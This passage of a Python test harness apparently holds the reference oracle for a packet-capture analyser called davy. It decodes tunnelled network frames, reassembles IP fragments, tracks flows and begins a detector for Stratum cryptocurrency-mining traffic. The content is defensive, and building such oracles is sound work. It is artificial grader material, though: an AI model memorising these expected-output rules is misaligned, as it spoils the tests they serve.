        return b"".join(out)

    def file_bytes(self):
        b = self.pcapng_bytes() if self.fmt == "pcapng" else self.pcap_bytes()
        return b[:len(b) - self.chop] if self.chop else b


# --------------------------------------------------------------------------
# Reference decoder: what davy must make of one record.

class Dec:
    __slots__ = ("kind", "why", "proto", "src", "dst", "sport", "dport", "vlan", "flags",
                 "tunnel", "inner_off", "frag", "l4")

    def __init__(self, kind, why=""):
        self.kind, self.why = kind, why
        self.proto = self.src = self.dst = None
        self.sport = self.dport = 0
        self.vlan = ()
        self.flags = 0
        self.tunnel = []   # tunnel layers, outermost first (dicts as in the manifest)
        self.inner_off = 0  # where the innermost tunnel's payload starts (0: none)
        self.frag = None    # kind "frag": what reassembly needs (see decode())
        self.l4 = b""       # TCP, UDP: the segment (header and payload, up to the IP end)

    def tunnel_key(self):
        """What the tunnel layers add to the flow key: (type, identifier) of
        every layer that has one, outermost first."""
        return tuple((t["type"], t[TUNNEL_ID[t["type"]]]) for t in self.tunnel
                     if TUNNEL_ID.get(t["type"]) in t)


class TooDeep(Exception):
    pass


def u16(b, off):
    return struct.unpack_from("!H", b, off)[0]


def u32(b, off):
    return struct.unpack_from("!I", b, off)[0]


def decode(linktype, data, wirelen, resume=None):
    """One record -> Dec. Walks link header, VLAN tags, MPLS, IPv4/IPv6
    (with IP-in-IP), GRE (with ERSPAN), UDP (with VXLAN, Geneve, GRE-in-UDP)
    down to the innermost TCP/UDP/ICMP header, as davy is specified to.

    An IP fragment stops the walk: kind "frag", with d.frag holding the
    datagram key, offset, MF, data, the headers before the fragmented IP
    header and the decode state there (VLANs, tunnel layers). resume (such a
    state, from Defrag) decodes a reassembled frame from its IP header on."""
    snapped = len(data) < wirelen

    def err(why):
        return Dec("error", why)

    vlans = []
    if resume is not None:
        et, off = None, resume["off"]
        vlans = list(resume["vlans"])
    elif linktype == LT_ETH:
        if len(data) < 14:
            return err("eth: frame < 14 bytes")
        et, off = struct.unpack_from("!H", data, 12)[0], 14
        if et < 0x0600:
            return Dec("unsupported", "802.3 length frame")
    elif linktype == LT_SLL:
        if len(data) < 16:
            return err("sll: < 16 bytes")
        et, off = struct.unpack_from("!H", data, 14)[0], 16
    elif linktype == LT_SLL2:
        if len(data) < 20:
            return err("sll2: < 20 bytes")
        et, off = struct.unpack_from("!H", data, 0)[0], 20
    elif linktype in (LT_NULL, LT_LOOP):
        if len(data) < 4:
            return err("null: < 4 bytes")
        fam = struct.unpack_from("<I" if linktype == LT_NULL else "!I", data, 0)[0]
        off = 4
        if fam == 2:
            et = ETH_IPV4
        elif fam in (24, 28, 30):
            et = ETH_IPV6
        else:
            return Dec("unsupported", "null: family %d" % fam)
    elif linktype == LT_RAW:
        if len(data) < 1:
            return err("raw: empty")
        v = data[0] >> 4
        if v not in (4, 6):
            return err("raw: version %d" % v)
        et, off = (ETH_IPV4 if v == 4 else ETH_IPV6), 0
    elif linktype == LT_IPV4:
        et, off = ETH_IPV4, 0
    elif linktype == LT_IPV6:
        et, off = ETH_IPV6, 0
    else:
        raise ValueError("linktype %d" % linktype)

    tun = []           # tunnel layers, outermost first
    outer = None       # (src, dst) of the last IP header: the carrier of the next tunnel
    inner_off = 0      # start of the innermost tunnel's payload
    end = len(data)    # end of the current layer's bytes (IP total length, ...)
    if resume is not None:
        tun = [dict(t) for t in resume["tun"]]
        outer, inner_off = resume["outer"], resume["inner_off"]

    def push(typ, **ident):
        if len(tun) == MAX_TUNNELS:
            raise TooDeep(typ)
        t = {"type": typ}
        if typ != "mpls":
            t["src_ip"], t["dest_ip"] = outer
        t.update(ident)
        tun.append(t)

    layer = "ether"  # the next header: et holds the ethertype, off its start
    if resume is not None:
        layer = resume["layer"]
    try:
        while True:
            if layer == "eth":  # an Ethernet frame inside a tunnel
                if end - off < 14:
                    return err("eth: inner frame < 14 bytes")
                et, off = u16(data, off + 12), off + 14
                if et < 0x0600:
                    return Dec("unsupported", "802.3 length frame")
                layer = "ether"
            if layer == "ether":
                while et in VLAN_TPIDS:  # at most MAX_VLAN tags in all Ethernet headers together
                    if end < off + 4:
                        return err("vlan: tag cut")
                    if len(vlans) == MAX_VLAN:
                        return err("vlan: more than %d tags" % MAX_VLAN)
                    tci, et = struct.unpack_from("!HH", data, off)
                    vlans.append(tci & 0x0FFF)
                    off += 4
                if et in ETH_MPLS:
                    layer = "mpls"
                elif et == ETH_IPV4:
                    layer = "ip4"
                elif et == ETH_IPV6:
                    layer = "ip6"
                elif et == ETH_ARP:
                    return Dec("unsupported", "arp")
                else:
                    return Dec("unsupported", "ethertype %#x" % et)

            if layer == "mpls":
                top = None
                while True:
                    if end - off < 4:
                        return err("mpls: truncated: label stack cut")
                    e, off = u32(data, off), off + 4
                    if top is None:
                        top = e >> 12
                    if e & 0x100:
                        break
                if end - off < 1:
                    return err("mpls: truncated: nothing after the bottom of stack")
                v = data[off] >> 4
                if v not in (4, 6):
                    return Dec("unsupported", "mpls: payload version nibble %d" % v)
                push("mpls", label=top)
                inner_off = off
                layer = "ip4" if v == 4 else "ip6"
                continue

            if layer in ("vxlan", "geneve", "gre"):
                if layer == "vxlan":
                    if end - off < 8:
                        return err("vxlan: truncated: %d of 8 header bytes" % (end - off))
                    push("vxlan", vni=u32(data, off + 4) >> 8)
                    off, layer = off + 8, "eth"
                elif layer == "geneve":
                    if end - off < 8:
                        return err("geneve: truncated: %d of 8 header bytes" % (end - off))
                    ver, optlen = data[off] >> 6, (data[off] & 0x3F) * 4
                    ptype, vni = u16(data, off + 2), u32(data, off + 4) >> 8
                    if ver != 0:
                        return err("geneve: malformed: version %d" % ver)
                    if end - off < 8 + optlen:
                        return err("geneve: truncated: %d option bytes, %d present"
                                   % (optlen, end - off - 8))
                    o, stop = off + 8, off + 8 + optlen
                    while o < stop:  # walk the options: they must end exactly at optlen
                        if stop - o < 4:
                            return err("geneve: malformed: option header past optlen")
                        o += 4 + (data[o + 3] & 0x1F) * 4
                        if o > stop:
                            return err("geneve: malformed: option past optlen")
                    nxt = {ETH_TEB: "eth", ETH_IPV4: "ip4", ETH_IPV6: "ip6"}.get(ptype)
                    if nxt is None:
                        return Dec("unsupported", "geneve: protocol %#x" % ptype)
                    push("geneve", vni=vni)
                    off, layer = stop, nxt
                else:  # GRE, in IP (protocol 47) or in UDP (port 4754)
                    if end - off < 4:
                        return err("gre: truncated: %d of 4 header bytes" % (end - off))
                    fv, ptype = u16(data, off), u16(data, off + 2)
                    ver = fv & 7
                    if ver == 1:
                        return Dec("unsupported", "gre: version 1 (PPTP)")
                    if ver != 0:
                        return err("gre: malformed: version %d" % ver)
                    if fv & GRE_R:
                        return err("gre: malformed: routing bit set")
                    hl = 4 + 4 * sum(1 for b in (GRE_C, GRE_K, GRE_S) if fv & b)
                    if end - off < hl:
                        return err("gre: truncated: %d of %d header bytes" % (end - off, hl))
                    ident = {}
                    if fv & GRE_K:
                        ident["key"] = u32(data, off + (8 if fv & GRE_C else 4))
                    p = off + hl
                    if ptype in (ETH_IPV4, ETH_IPV6, ETH_TEB) or ptype in ETH_MPLS:
                        push("gre", **ident)
                        off = p
                        layer = {ETH_IPV4: "ip4", ETH_IPV6: "ip6", ETH_TEB: "eth"}.get(ptype, "mpls")
                        if layer == "mpls":
                            continue  # the MPLS layer sets inner_off
                    elif ptype == ETH_ERSPAN2 and not fv & GRE_S:  # type I: no header
                        push("gre", **ident)
                        push("erspan")
                        off, layer = p, "eth"
                    elif ptype == ETH_ERSPAN2:  # type II
                        push("gre", **ident)
                        if end - p < 8:
                            return err("erspan: truncated: %d of 8 header bytes" % (end - p))
                        if u16(data, p) >> 12 != 1:
                            return err("erspan: malformed: type II version %d" % (u16(data, p) >> 12))
                        push("erspan", session_id=u16(data, p + 2) & 0x3FF)
                        off, layer = p + 8, "eth"
                    elif ptype == ETH_ERSPAN3:
                        push("gre", **ident)
                        if end - p < 12:
                            return err("erspan: truncated: %d of 12 header bytes" % (end - p))
                        if u16(data, p) >> 12 != 2:
                            return err("erspan: malformed: type III version %d" % (u16(data, p) >> 12))
                        hl3 = 12 + 8 * (data[p + 11] & 1)
                        if end - p < hl3:
                            return err("erspan: truncated: platform sub-header cut")
                        push("erspan", session_id=u16(data, p + 2) & 0x3FF)
                        off, layer = p + hl3, "eth"
                    else:
                        return Dec("unsupported", "gre: protocol %#x" % ptype)
                inner_off = off
                continue

            # IPv4 / IPv6 at off
            frag = None  # (id, offset, more, hdr_len, nh_off, proto) of a fragment
            if layer == "ip4":
                ip = data[off:end]
                if len(ip) < 20:
                    return err("ipv4: < 20 bytes")
                if ip[0] >> 4 != 4:
                    return err("ipv4: version %d" % (ip[0] >> 4))
                ihl = (ip[0] & 15) * 4
                if ihl < 20:
                    return err("ipv4: IHL < 5")
                if len(ip) < ihl:
                    return err("ipv4: options cut")
                tot = struct.unpack_from("!H", ip, 2)[0]
                if tot < ihl:
                    return err("ipv4: total length < header")
                if tot > len(ip) and not snapped:
                    return err("ipv4: total length > frame")
                ip = ip[:tot]
                fo = struct.unpack_from("!H", ip, 6)[0]
                proto = ip[9]
                if fo & 0x3FFF:  # MF or an offset
                    frag = (u16(ip, 4), (fo & 0x1FFF) * 8, bool(fo & 0x2000), ihl, 0, proto)
                src, dst = ip[12:16], ip[16:20]
                l4off = off + ihl
            else:
                ip = data[off:end]
                if len(ip) < 40:
                    return err("ipv6: < 40 bytes")
                if ip[0] >> 4 != 6:
                    return err("ipv6: version %d" % (ip[0] >> 4))
                plen = struct.unpack_from("!H", ip, 4)[0]
                if 40 + plen > len(ip) and not snapped:
                    return err("ipv6: payload length > frame")
                ip = ip[:40 + plen]
                proto, src, dst = ip[6], ip[8:24], ip[24:40]
                p = 40
                nh_off = 6  # the byte that names the header at p
                while proto in (0, 43, 44, 60):
                    if len(ip) < p + 8:
                        return err("ipv6: extension header %d cut" % proto)
                    if proto == 44:
                        fo = u16(ip, p + 2)
                        if fo & 0xFFF9:  # an offset or M: a fragment (else atomic)
                            frag = (u32(ip, p + 4), fo & 0xFFF8, bool(fo & 1), p, nh_off, ip[p])
                            p += 8
                            break
                        hl = 8
                    else:
                        hl = (ip[p + 1] + 1) * 8
                        if len(ip) < p + hl:
                            return err("ipv6: extension header %d runs past the end" % proto)
                    nh_off = p
                    proto, p = ip[p], p + hl
                l4off = off + p
            v6 = layer == "ip6"
            end = off + len(ip)
            if frag:
                fid, foff, more, hlen, nh_off, fproto = frag
                d = Dec("frag", "IPv%d fragment id %#x offset %d, %d bytes%s"
                        % (6 if v6 else 4, fid, foff, end - l4off, ", MF" if more else ""))
                d.frag = {"key": (6 if v6 else 4, bytes(src), bytes(dst), fid,
                                  0 if v6 else fproto, tuple(vlans),
                                  tuple((t["type"], t.get(TUNNEL_ID.get(t["type"], "")),
                                         t.get("src_ip"), t.get("dest_ip"), t.get("label"))
                                        for t in tun)),
                          "offset": foff, "more": more, "proto": fproto,
                          "data": bytes(data[l4off:end]),
                          "head": bytes(data[:off + hlen]), "ip_off": off, "nh_off": nh_off,
                          "ipv4_hlen": 0 if v6 else hlen,
                          "state": {"layer": layer, "off": off, "vlans": tuple(vlans),
                                    "tun": [dict(t) for t in tun], "outer": outer,
                                    "inner_off": inner_off}}
                return d
            here = (str(ipaddress.ip_address(bytes(src))), str(ipaddress.ip_address(bytes(dst))))

            if proto in (4, 41):  # IP-in-IP: 4in4, 6in4, 4in6, 6in6
                outer = here
                push("ipip")
                off = inner_off = l4off
                layer = "ip4" if proto == 4 else "ip6"
                continue
            if proto == 47:
                outer, off, layer = here, l4off, "gre"
                continue

            l4 = data[l4off:end]
            d = Dec("flow")
            d.src, d.dst = here
            d.vlan = tuple(vlans)
            if proto == 6:
                if len(l4) < 20:
                    return err("tcp: < 20 bytes")
                if l4[12] >> 4 < 5:
                    return err("tcp: data offset < 5")
                d.proto = "TCP"
                d.sport, d.dport = struct.unpack_from("!HH", l4, 0)
                d.flags = l4[13]
                d.l4 = bytes(l4)
            elif proto == 17:
                if len(l4) < 8:
                    return err("udp: < 8 bytes")
                if struct.unpack_from("!H", l4, 4)[0] < 8:
                    return err("udp: length < 8")
                d.proto = "UDP"
                d.sport, d.dport = struct.unpack_from("!HH", l4, 0)
                d.l4 = bytes(l4)
                pay = l4off + 8
                nxt = None
                if d.dport in VXLAN_PORTS and end > pay and data[pay] & 0x08:
                    nxt = "vxlan"  # without the I flag: a plain UDP flow to that port
                elif d.dport in GENEVE_PORTS:
                    nxt = "geneve"
                elif d.dport in GRE_UDP_PORTS:
                    nxt = "gre"
                if nxt:
                    outer, off, layer = here, pay, nxt
                    continue
            elif (proto == 1 and not v6) or (proto == 58 and v6):
                if len(l4) < 4:
                    return err("icmp: < 4 bytes")
                d.proto = "IPv6-ICMP" if v6 else "ICMP"
            else:
                return Dec("unsupported", "ip proto %d" % proto)
            d.tunnel = tun
            d.inner_off = inner_off
            return d
    except TooDeep as e:
        return err("too_many_layers: tunnel layer %d (%s) beyond the cap of %d"
                   % (MAX_TUNNELS + 1, e.args[0], MAX_TUNNELS))


# --------------------------------------------------------------------------
# Reference flow table

class Flow:
    def __init__(self, d, ts, idx):
        self.proto = d.proto
        synack = d.proto == "TCP" and (d.flags & 0x12) == 0x12
        if synack:
            self.src, self.sport, self.dst, self.dport = d.dst, d.dport, d.src, d.sport
        else:
            self.src, self.sport, self.dst, self.dport = d.src, d.sport, d.dst, d.dport
        self.vlan = d.vlan
        self.tunnel = [dict(t) for t in d.tunnel]  # as in the first packet
        self.pkts = [0, 0]
        self.bytes = [0, 0]
        self.start = self.end = ts
        self.idx = idx
        self.fin = [False, False]
        self.closed = False
        self.reason = None
        self.l7 = None  # TCP: FlowL7, what davy's Stratum detection makes of it
        self.next_update = ts + FLOW_UPDATE_US
        self.updates = []  # periodic flow records (reason "update")
        self.dns = None    # (dns_linked_name, dns_linked_cname or None): RefDnsLink
        self.ioc = None    # RefIocFlow, for captures modelled with indicators

    def state(self):
        if self.closed:
            return "closed"
        return "established" if self.pkts[0] and self.pkts[1] else "new"

    def timeout_us(self):
        return TIMEOUTS[self.proto][self.state()] * 1_000_000

    def update(self, d, ts, wirelen):
        toclient = int((d.src, d.sport) != (self.src, self.sport))
        self.pkts[toclient] += 1
        self.bytes[toclient] += wirelen - d.inner_off  # the innermost frame
        self.end = ts
        if self.proto == "TCP":
            if d.flags & 0x04:
                self.closed = True
            if d.flags & 0x01:
                self.fin[toclient] = True
                if all(self.fin):
                    self.closed = True
        if ts >= self.next_update:  # a periodic record, once this packet is counted
            assert ts != self.next_update, "packet exactly on a flow update boundary"
            self.updates.append({"flow": self.key_fields(), "timestamp": ts / 1e6,
                                 "pkts_toserver": self.pkts[0], "pkts_toclient": self.pkts[1],
                                 "bytes_toserver": self.bytes[0], "bytes_toclient": self.bytes[1]})
            self.next_update = ts + FLOW_UPDATE_US
        return toclient

    def key_fields(self):
        """What identifies the flow in alert and update expectations."""
        return {"proto": self.proto, "src_ip": self.src, "src_port": self.sport,
                "dest_ip": self.dst, "dest_port": self.dport, "start": self.start / 1e6}

    def record(self):
        r = {"proto": self.proto, "src_ip": self.src, "src_port": self.sport,
             "dest_ip": self.dst, "dest_port": self.dport}
        if self.vlan:
            r["vlan"] = list(self.vlan)
        if self.tunnel:
            r["tunnel"] = self.tunnel
        r.update({"pkts_toserver": self.pkts[0], "pkts_toclient": self.pkts[1],
                  "bytes_toserver": self.bytes[0], "bytes_toclient": self.bytes[1],
                  "start": self.start / 1e6, "end": self.end / 1e6,
                  "state": self.state(), "reason": self.reason})
        st = self.l7.stratum() if self.l7 else None
        if st:
            r["stratum"] = st
        if self.dns:
            r["dns_linked_name"] = self.dns[0]
            if self.dns[1]:
                r["dns_linked_cname"] = self.dns[1]
        return r


# --------------------------------------------------------------------------
# Reference reassembler (rules in RULES["defrag"])

DEFRAG_TIMEOUT_US = 60 * 1_000_000
DEFRAG_TICK_US = 1_000_000
DEFRAG_MAX = 65535
MIN_TRANSPORT = {6: 20, 17: 8, 132: 12, 1: 4, 58: 4}
DEFRAG_COUNTERS = ("fragments", "reassembled", "timeouts", "evicted", "overlaps",
                   "overlap_conflicts", "too_big", "inconsistent", "tiny_first")


class Datagram:
    def __init__(self, first_us):
        self.first_us = first_us
        self.total = None   # data bytes, fixed by the last fragment
        self.blocks = {}    # 8-byte block index -> the bytes kept (the last one may be short)
        self.first = None   # the offset-0 fragment's d.frag


class Defrag:
    """IP reassembly as davy is specified to do it (at most 256 datagrams:
    no capture comes near, so eviction is not modelled)."""

    def __init__(self):
        self.dg = {}  # key -> Datagram, oldest (by first fragment) first
        self.st = dict.fromkeys(DEFRAG_COUNTERS, 0)

    def expire(self, now):
        for k in list(self.dg):
            g = self.dg[k]
            if now > g.first_us and now - g.first_us > DEFRAG_TIMEOUT_US:
                self.st["timeouts"] += 1
                del self.dg[k]
            else:
                break

    def add(self, fr, ts):
        """One fragment (a d.frag) at ts -> (outcome, frame, resume state):
        outcome is "held", "dropped: why" or "complete" (frame and state then
        say what to decode next)."""
        st = self.st
        st["fragments"] += 1
        self.expire(ts)
        off, data, more = fr["offset"], fr["data"], fr["more"]
        if more and len(data) % 8:
            st["inconsistent"] += 1
            return "dropped: non-last fragment of %d bytes (not a multiple of 8)" % len(data), None, None
        key = fr["key"]
        g = self.dg.get(key)
        if g is None:
            g = self.dg[key] = Datagram(ts)

        def drop(counter, why):
            st[counter] += 1
            del self.dg[key]
            return "dropped: " + why, None, None
        end = off + len(data)
        if end + fr["ipv4_hlen"] > DEFRAG_MAX:
            return drop("too_big", "datagram of more than %d bytes" % DEFRAG_MAX)
        if not more:
            if g.total is not None and g.total != end:
                return drop("inconsistent", "second last fragment, end %d != %d" % (end, g.total))
            if g.total is None and any(b * 8 + len(v) > end for b, v in g.blocks.items()):
                return drop("inconsistent", "data held past the end %d" % end)
            g.total = end
        elif g.total is not None and end > g.total:
            return drop("inconsistent", "data past the end %d" % g.total)
        if off == 0 and g.first is None:
            g.first = fr
            if len(data) < MIN_TRANSPORT.get(fr["proto"], 0):
                st["tiny_first"] += 1
        for b in range(off // 8, (end + 7) // 8):
            chunk = data[b * 8 - off:b * 8 - off + 8]
            if b in g.blocks:
                st["overlaps"] += 1
                if g.blocks[b][:len(chunk)] != chunk:
                    st["overlap_conflicts"] += 1
                continue  # first wins
            g.blocks[b] = chunk
        if g.total is None or g.first is None or \
                any(b not in g.blocks for b in range((g.total + 7) // 8)):
            return "held", None, None
        del self.dg[key]
        st["reassembled"] += 1
        body = b"".join(g.blocks[b] for b in range((g.total + 7) // 8))[:g.total]
        f = g.first
        head = bytearray(f["head"])
        ip = f["ip_off"]
        if f["key"][0] == 4:
            struct.pack_into("!H", head, ip + 2, len(head) - ip + g.total)
            head[ip + 6] &= 0x40  # keep DF, clear MF and the offset
            head[ip + 7] = 0
        else:
            struct.pack_into("!H", head, ip + 4, len(head) - ip - 40 + g.total)
            head[ip + f["nh_off"]] = f["proto"]
        return "complete", bytes(head) + body, f["state"]


def run_defrag(df, linktype, fr, ts):
    """Hands a fragment to the reassembler and decodes what it completes,
    round after round (a reassembled outer datagram may hold an inner
    fragment) -> (Dec of the final packet or None, its frame, what happened,
    the end: held / dropped / the final packet's kind)."""
    said = ""
    for _ in range(8):  # DAVY_MAX_TUNNELS rounds, as davy's reader
        outcome, frame, state = df.add(fr, ts)
        said += outcome
        if outcome != "complete":
            return None, None, said, outcome.split(":")[0]
        d = decode(linktype, frame, len(frame), resume=state)
        if d.kind != "frag":
            return d, frame, said + ", a %s packet" % d.kind, d.kind
        said += ", holding an inner %s: " % d.why
        fr = d.frag
    raise AssertionError("fragments nested too deep")


# --------------------------------------------------------------------------
# Reference Stratum detection (rules in RULES["stratum"]): which TCP flows are
# read, their streams reassembled as include/tcp_reasm.h says, the lines read
# as include/stratum.h says, and the alerts, stratum objects, reassembly
# counters and periodic flow records that follow. Written from those
# contracts, not from davy's C code: where the two disagree, golden_test.py
# says so.

STRATUM_LINE_MAX = 4096
STRATUM_FRAME_MAX = 4096
STRATUM_NOT_LINES = 4
STRATUM_PENDING_MAX = 16
STRATUM_ID_MAX = 24
REASM_CHUNK = 2048
REASM_SEGS = 16
FLOW_UPDATE_US = 300 * 1_000_000  # --flow-update-interval default
SID_CLIENT, SID_SERVER, SID_NDPI, SID_V2 = 4960001, 4960002, 4960003, 4960004
V2_HELLO_LEN, V2_ANSWER_LEN, V2_MIN_RECORD, V2_MIN_ENTROPY = 64, 170, 38, 5.0
TCP_FIN, TCP_SYN, TCP_RST, TCP_ACK = 0x01, 0x02, 0x04, 0x10
SPACE = b" \t\r\n\f\v"
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
BECH32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
HEXDIGITS = "0123456789abcdefABCDEF"
DIALECTS = (None, "stratum_v1", "ethereum_stratum", "eth_proxy", "cryptonote")
V1, ETHSTRATUM, ETHPROXY, CRYPTONOTE = 1, 2, 3, 4
(K_FREE, K_SUBSCRIBE, K_AUTHORIZE, K_SUBMIT, K_ETH_LOGIN, K_ETH_GETWORK, K_CN_LOGIN,
 K_CN_TENTATIVE, K_OTHER) = range(9)
STRATUM_FIELDS = ("dialect", "role", "login", "wallet_type", "worker", "pass", "agent", "algo",
                  "rigid", "difficulty", "jobs", "submits", "accepted", "rejected")
STRATUM_HOST_MAX = 256  # the host a miner names (RULES["iocs"]); the captures' hosts are short


class JFloat:
    """A JSON number with a fraction or exponent, kept as its text (json-c
    writes a parsed double back as it was sent)."""
    __slots__ = ("text",)

    def __init__(self, text):
        self.text = text


def j_str(v):
    return isinstance(v, str)


def j_int(v):
    return type(v) is int


def j_member(obj, key):
    """stratum.c member(): the value, or None (absent, null, not an object)."""
    return obj.get(key) if isinstance(obj, dict) else None


def j_elem(v, i):
    return v[i] if isinstance(v, list) and i < len(v) else None


def j_len(v):
    return len(v) if isinstance(v, list) else 0


def is_hex(s):
    return all(ch in HEXDIGITS for ch in s)


def cut(s, cap):
    """A string member stored in a char[cap] (UTF-8 bytes, truncated)."""
    return s.encode("utf-8", "surrogateescape")[:cap - 1].decode("utf-8", "ignore")


def wallet_type(s):
    n = len(s)
    if n == 42 and s.startswith("0x") and is_hex(s[2:]):
        return "ethereum"
    if n in (95, 106) and s[0] in "48" and all(ch in BASE58 for ch in s):
        return "monero"
    if 26 <= n <= 35 and s[0] in "13" and all(ch in BASE58 for ch in s):
        return "bitcoin"
    if 14 <= n <= 74 and s.startswith("bc1") and all(ch in BECH32 for ch in s[3:]):
        return "bitcoin"
    return ""


def wallet_part(login):
    for i, ch in enumerate(login):
        if ch in ".+/":
            return i
    return len(login)


def entropy(b):
    """Shannon entropy of b in bits per byte."""
    n = len(b)
    return -sum(c / n * math.log2(c / n) for c in collections.Counter(b).values()) if n else 0.0


class RefStratum:
    """stratum.h's parser for one flow: framing, recognition, the stratum
    object. dir 0 = from the flow's source."""

    def __init__(self):
        self.dialect = 0
        self.roles = set()
        self.client_dir = -1
        self.login = self.worker = self.wtype = self.pw = self.agent = ""
        self.algo = self.rigid = self.difficulty = ""
        self.host = ""  # the pool host the miner names (RULES["iocs"]); not in record()
        self.jobs = self.submits = self.accepted = self.rejected = 0
        self.messages = self.nonstratum = 0
        self.not_framed = False
        self.pending = []  # [seq, key, kind, dir]
        self.seq = 0
        self.held = None
        self.state = ["start", "start"]
        self.line = [bytearray(), bytearray()]
        self.nbytes = [0, 0]
        self.newline = [False, False]

    # -- framing
    def _count(self, d, n):
        self.nbytes[d] += n
        if not self.newline[d] and self.nbytes[d] >= STRATUM_FRAME_MAX:
            self.not_framed = True

    def feed(self, d, data):
        i, n = 0, len(data)
        while i < n:
            if self.state[d] == "start":
                b = data[i]
                i += 1
                if b == 0x0A:
                    self.nbytes[d] += 1
                    self.newline[d] = True
                    self.state[d] = "line"
                    continue
                self._count(d, 1)
                if b in SPACE:
                    continue
                if b == 0x7B:
                    self.line[d] = bytearray(b"{")
                    self.state[d] = "line"
                else:
                    self.state[d] = "skip"
                continue
            nl = data.find(b"\n", i)
            take = (nl if nl >= 0 else n) - i
            if self.state[d] == "line" and len(self.line[d]) + take > STRATUM_LINE_MAX - 1:
                self._not_stratum_line()
                self.line[d] = bytearray()
                self.state[d] = "skip"
            if self.state[d] == "line":
                self.line[d] += data[i:i + take]
            self._count(d, take)
            i += take
            if nl < 0:
                break
            i += 1
            self.nbytes[d] += 1
            self.newline[d] = True
            if self.state[d] == "line":
                self._line_done(d, bytes(self.line[d]))
            self.line[d] = bytearray()
            self.state[d] = "line"

    def gap(self, d):
        self.line[d] = bytearray()
        self.state[d] = "skip"

    def end(self):
        """stratum_end(): the flow ends; a last line still waiting for its
        newline is read as a complete line."""
        for d in (0, 1):
            if self.state[d] == "line" and self.line[d]:
                self._line_done(d, bytes(self.line[d]))
            self.line[d] = bytearray()
            self.state[d] = "skip"

    def _not_stratum_line(self):
        if not self.dialect:
            self.nonstratum += 1

    def _line_done(self, d, line):
        if not line.strip(SPACE):
            return
        msg = None
        try:
            text = line.decode("utf-8")
            start = len(text) - len(text.lstrip(" \t\r\n\f\v"))
            msg, end = json.JSONDecoder(parse_float=JFloat).raw_decode(text, start)
            if text[end:].strip(" \t\r\n\f\v"):
                msg = None
        except (ValueError, UnicodeDecodeError):
            msg = None
        if not isinstance(msg, dict):
            self._not_stratum_line()
            return
        self.messages += 1
        if not self._handle(d, msg):
            self._not_stratum_line()

    # -- bookkeeping
    def _set_dialect(self, dl):
        if not self.dialect or (self.dialect == V1 and dl == ETHSTRATUM):
            self.dialect = dl

    def _client(self, d):
        self.roles.add("client")
        self.client_dir = d

    def _set_login(self, s):
        self.login = cut(s, 256)
        w = wallet_part(self.login)
        self.wtype = wallet_type(self.login[:w])
        self.worker = cut(self.login[w + 1:], 64) if w < len(self.login) else ""

    @staticmethod
    def _id_key(v):
        if j_int(v):
            k = "i%d" % v
            return k if len(k) < STRATUM_ID_MAX else None
        if j_str(v):
            return "s" + v.encode()[:STRATUM_ID_MAX - 2].decode("utf-8", "surrogateescape")
        return None

    def _pending_add(self, idv, kind, d):
        k = self._id_key(idv)
        if k is None:
            return
        if len(self.pending) == STRATUM_PENDING_MAX:
            self.pending.remove(min(self.pending))
        self.seq += 1
        self.pending.append([self.seq, k, kind, d])

    def _pending_take(self, idv, d):
        k = self._id_key(idv)
        if k is None:
            return K_FREE, None
        cands = [e for e in self.pending if e[1] == k and e[3] != d]
        if not cands:
            return K_FREE, k
        e = min(cands)
        self.pending.remove(e)
        return e[2], k

    # -- shapes
    def _cn_job(self, job):
        blob, jid = j_member(job, "blob"), j_member(job, "job_id")
        if not (j_str(blob) and len(blob.encode()) >= 64 and is_hex(blob) and j_str(jid)):
            return False
        self.jobs += 1
        t = j_member(job, "target")
        if j_str(t):
            self.difficulty = cut(t, 80)
        if not self.algo:
            self._algo_text(j_member(job, "algo"))
        return True

    def _algo_text(self, v):
        if j_str(v):
            self.algo = cut(v, 128)
        elif isinstance(v, list):
            self.algo = cut(",".join(x for x in v if j_str(x)), 128)

    @staticmethod
    def _0xhex(v, lo, hi):
        return j_str(v) and 2 + lo <= len(v) <= 2 + hi and v.startswith("0x") and is_hex(v[2:])

    def _eth_work(self, res):
        if j_len(res) not in (3, 4) or not (self._0xhex(res[0], 64, 64) and
                                              self._0xhex(res[1], 64, 64) and
                                              self._0xhex(res[2], 1, 64)):
            return False
        self.jobs += 1
        self.difficulty = cut(res[2], 80)
        return True

    @staticmethod
    def _mining_name(v):
        return j_str(v) and v.startswith("mining.") and len(v) > 7

    @staticmethod
    def _es_marker(v):
        return j_str(v) and v.startswith("EthereumStratum/")

    def _sub_result(self, res):
        n = j_len(res)
        if n == 0:
            return 0
        first = res[0]
        fn = j_len(first)
        if fn > 0 and self._mining_name(first[0]):
            return ETHSTRATUM if any(self._es_marker(x) for x in first[1:]) else V1
        if fn > 0 and all(j_len(p) >= 2 and self._mining_name(p[0]) for p in first):
            return V1
        x, sz = j_elem(res, 1), j_elem(res, 2)
        if n == 3 and (first is None or isinstance(first, list)) and j_str(x) and \
                2 <= len(x) <= 32 and len(x) % 2 == 0 and is_hex(x) and j_int(sz) and 1 <= sz <= 32:
            return V1
        return 0

    @staticmethod
    def _outcome(msg):
        if j_member(msg, "error") is not None:
            return -1
        res = j_member(msg, "result")
        if isinstance(res, bool):
            return 1 if res else -1
        st = j_member(res, "status")
        if j_str(st):
            return 1 if st.lower() == "ok" else 0
        return 0

    # -- messages
    def _handle(self, d, msg):
        m = j_member(msg, "method")
        if j_str(m):
            return self._request(d, msg, m)
        if "result" in msg or "error" in msg:
            return self._response(d, msg)
        return False

    def _cn_login(self, d, params, idv):
        login = j_member(params, "login")
        if not (j_str(login) and login):
            return False
        algo = j_member(params, "algo")
        score = sum(j_str(j_member(params, k)) for k in ("pass", "agent", "rigid"))
        score += j_str(algo) or isinstance(algo, list)
        if wallet_type(login[:wallet_part(login)]):
            score += 2
        if score >= 3:
            self._set_dialect(CRYPTONOTE)
            self._apply_cn_login(params)
            self._pending_add(idv, K_CN_LOGIN, d)
            self._client(d)
            return True
        if score == 0 or self._id_key(idv) is None:
            self.held = None if score else self.held
            return False
        self.held = {"key": self._id_key(idv), "dir": d, "params": params}
        self._pending_add(idv, K_CN_TENTATIVE, d)
        return False

    def _apply_cn_login(self, params):
        self._set_login(j_member(params, "login"))
        for key, attr, cap in (("pass", "pw", 64), ("agent", "agent", 128), ("rigid", "rigid", 64)):
            v = j_member(params, key)
            if j_str(v):
                setattr(self, attr, cut(v, cap))
        self._algo_text(j_member(params, "algo"))

    def _request(self, d, msg, m):
        params, idv = j_member(msg, "params"), j_member(msg, "id")
        if m == "mining.subscribe":
            self._set_dialect(V1)
            if j_str(j_elem(params, 0)):
